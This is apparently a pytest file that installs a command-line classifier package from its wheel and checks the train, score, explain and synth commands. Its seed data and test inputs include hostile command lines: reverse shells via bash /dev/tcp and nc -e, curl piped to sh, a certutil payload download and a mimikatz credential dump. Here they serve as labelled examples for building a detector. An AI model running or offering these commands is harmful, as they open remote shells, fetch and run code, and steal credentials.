"""smallworld installed as a user installs it: a wheel (not editable) in a fresh venv, run from outside the checkout.

Every other test imports the checkout; this one cannot, so it sees what the wheel ships (package data such as
the synth taxonomies, the task files and the C scorer's source) and what the console script does.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import ROOT

pytestmark = pytest.mark.slow

SEED = [("powershell -nop -w hidden -enc SQBFAFgA", "malicious"), ("certutil -urlcache -f http://1.2.3.4/a.exe a.exe", "malicious"),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "malicious"), ("nc -e /bin/sh 10.1.1.1 9001", "malicious"),
        ("curl http://203.0.113.5/x.sh | sh", "malicious"), ("mimikatz sekurlsa::logonpasswords", "malicious"),
        ("ls -la /tmp", "benign"), ("git status", "benign"), ("dir C:\\Users", "benign"), ("ping -c 3 localhost", "benign"),
        ("python3 -m venv .venv", "benign"), ("tar -xzf backup.tar.gz", "benign")]


@pytest.fixture(scope="module")
def installed(tmp_path_factory) -> Path:
    """A fresh venv holding the wheel built from this checkout (dependencies from the package index)."""
    d = tmp_path_factory.mktemp("installed")
    subprocess.run([sys.executable, "-m", "pip", "wheel", "-q", "--no-deps", "-w", str(d / "dist"), str(ROOT)],
                   check=True, capture_output=True, timeout=600)
    wheel = next((d / "dist").glob("smallworld-*.whl"))
    subprocess.run([sys.executable, "-m", "venv", str(d / "venv")], check=True, timeout=300)
    r = subprocess.run([str(d / "venv" / "bin" / "pip"), "install", "-q", str(wheel)], capture_output=True, text=True,
                       timeout=1800)
    assert r.returncode == 0, r.stderr[-3000:]
    return d


def run(installed: Path, *args, input: str | None = None, check: bool = True) -> subprocess.CompletedProcess:
    env = {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "VIRTUAL_ENV")}
    r = subprocess.run([str(installed / "venv" / "bin" / args[0]), *map(str, args[1:])], input=input, text=True,
                       capture_output=True, cwd=installed, env=env, timeout=900)
    if check:
        assert r.returncode == 0, f"{args} failed ({r.returncode}):\n{r.stderr[-3000:]}"
    return r


def test_the_wheel_is_what_runs(installed):
    r = run(installed, "python", "-c", "import smallworld, pathlib; print(pathlib.Path(smallworld.__file__).resolve())")
    assert Path(r.stdout.strip()).is_relative_to((installed / "venv").resolve())
    assert not Path(r.stdout.strip()).is_relative_to(ROOT)


def test_module_and_console_script_start(installed):
    assert "score" in run(installed, "python", "-m", "smallworld", "--help").stdout
    assert "train" in run(installed, "smallworld", "--help").stdout


def test_train_score_explain_from_the_wheel(installed):
    seed = installed / "seed.jsonl"
    seed.write_text("".join(json.dumps({"id": str(i), "text": t, "label": y}) + "\n" for i, (t, y) in enumerate(SEED)))
    run(installed, "smallworld", "train", "--task", "cmdlines", "--labelled", seed, "--out", installed / "m",
        "--teacher", "none")
    out = run(installed, "smallworld", "score", installed / "m", "-", input="nc -e /bin/sh 10.0.0.9 4444\ngit status\n")
    rows = [json.loads(x) for x in out.stdout.splitlines()]
    assert [r["id"] for r in rows] == ["1", "2"] and rows[0]["score"] > rows[1]["score"]
    assert "toward malicious" in run(installed, "smallworld", "explain", installed / "m", "nc -e /bin/sh 1.2.3.4 1").stdout
    bad = run(installed, "smallworld", "score", installed / "m", "-", "--mode", "High_Confidence", input="x\n", check=False)
    assert bad.returncode == 2 and "Traceback" not in bad.stderr
    # the wheel without its server extra: serve says what to install, no traceback
    srv = run(installed, "smallworld", "serve", installed / "m", check=False)
    assert srv.returncode == 2 and "pip install 'smallworld[server]'" in srv.stderr and "Traceback" not in srv.stderr


def test_package_data_ships(installed):
    """Task files, every task's synth taxonomy and the C scorer's source are in the wheel."""
    code = ("from smallworld.tasks import load_task, BUILTIN; from smallworld.synth import load_taxonomy; "
            "import smallworld, pathlib; "
            "print(*[len(load_taxonomy(load_task(t), [])) for t in sorted(BUILTIN)]); "
            "print((pathlib.Path(smallworld.__file__).parent / 'serve/c/smallworld_score.c').is_file())")
    lines = run(installed, "python", "-c", code).stdout.split("\n")
    assert all(int(n) > 0 for n in lines[0].split()) and lines[1] == "True"


def test_synth_runs_with_its_taxonomy(installed, llama_server, tmp_path):
    """`smallworld synth` from the wheel against the real llama.cpp server: the taxonomy is found and rows come back."""
    out = installed / "synth.jsonl"
    r = run(installed, "smallworld", "synth", "--task", "cmdlines", "--n", "2", "--entries", "reverse-shell",
            "--out", out, "--teacher", llama_server.url, "--no-verify", "--cache", tmp_path / "c.sqlite", check=False)
    assert r.returncode == 0, r.stderr[-2000:]
    assert "ships no taxonomy" not in r.stderr and (installed / "synth.jsonl.report.json").is_file()
